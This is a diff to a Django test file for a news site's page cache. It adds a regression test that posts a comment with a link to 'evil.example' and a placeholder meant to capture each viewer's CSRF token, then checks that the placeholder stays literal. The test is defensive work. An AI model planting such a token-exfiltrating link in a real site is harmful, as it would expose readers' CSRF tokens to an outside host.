@@ -8,6 +8,7 @@ from django.test import Client
 from django.test.utils import CaptureQueriesContext
 
 from masthead.discussion.models import Comment
+from masthead.publishing.page_cache import CSRF_MARKER
 from tests.factories import make_article
 
 pytestmark = pytest.mark.django_db
@@ -51,7 +52,7 @@ def test_each_reader_gets_their_own_csrf_token_and_can_post_from_a_cached_page(n
     for reader in readers:
         html = reader.get(article.url).content.decode()
         tokens.append(re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1))
-        assert "__MASTHEAD_CSRF_TOKEN__" not in html
+        assert CSRF_MARKER not in html
     assert tokens[0] != tokens[1]
     response = readers[1].post(
         f"/comments/{article.pk}/post/",
@@ -308,3 +309,27 @@ def test_a_deleted_image_leaves_no_broken_picture_on_cached_pages(newsroom):
     assert rendition in Client().get(article.url).content.decode()
     photo.delete()
     assert rendition not in Client().get(article.url).content.decode()
+
+
+def test_a_comment_cannot_carry_off_the_csrf_token_of_the_readers_who_view_it(newsroom):
+    """The placeholders each response fills in for its reader are not something a reader can
+    type: written into a comment's link or name, they would hand every viewer's CSRF token to
+    the link's site."""
+    from masthead.discussion.services.comments import thread_changed
+
+    article = newsroom["articles"]["ferry"]
+    Client().post(
+        f"/comments/{article.pk}/post/",
+        {
+            "body": "[Read this](https://evil.example/?t=__MASTHEAD_CSRF_TOKEN__)",
+            "author_name": "Eve __MASTHEAD_FORM_STARTED__",
+            "author_email": "eve@example.com",
+        },
+    )
+    Comment.objects.update(status="published")  # whatever the filter made of it
+    thread_changed(article.pk, recount=True)
+    victim = Client()
+    for url in (article.url, article.url, f"/comments/{article.pk}/"):  # rendered, cached, fragment
+        html = victim.get(url).content.decode()
+        assert "https://evil.example/?t=__MASTHEAD_CSRF_TOKEN__" in html, url
+        assert "Eve __MASTHEAD_FORM_STARTED__" in html, url
